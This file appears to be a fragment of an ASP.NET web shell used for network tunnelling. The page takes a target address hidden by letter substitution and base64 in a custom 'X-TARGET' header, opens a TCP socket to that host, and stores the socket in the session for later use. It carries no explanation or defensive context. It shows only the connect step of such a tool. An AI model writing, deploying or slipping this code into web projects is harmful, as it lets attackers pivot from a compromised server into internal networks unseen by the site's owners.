<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    string Swap(string s, string a, string b) { var r = new System.Text.StringBuilder(); foreach (char c in s) { int i = a.IndexOf(c); r.Append(i < 0 ? c : b[i]); } return r.ToString(); }
</script>
<%
    string cmd = Request.Headers.Get("X-CMD");
    if (cmd != null && cmd.EndsWith("CONNECT")) {
        string[] t = System.Text.Encoding.Default.GetString(System.Convert.FromBase64String(Swap(Request.Headers.Get("X-TARGET"), "QWERTY", "ABCDEF"))).Split('|');
        var sock = new System.Net.Sockets.Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
        sock.Connect(new IPEndPoint(IPAddress.Parse(t[0]), int.Parse(t[1])));
        Session.Add(cmd.Substring(0, 8), sock);
        Response.AddHeader("X-STATUS", "OK");
    }
%>
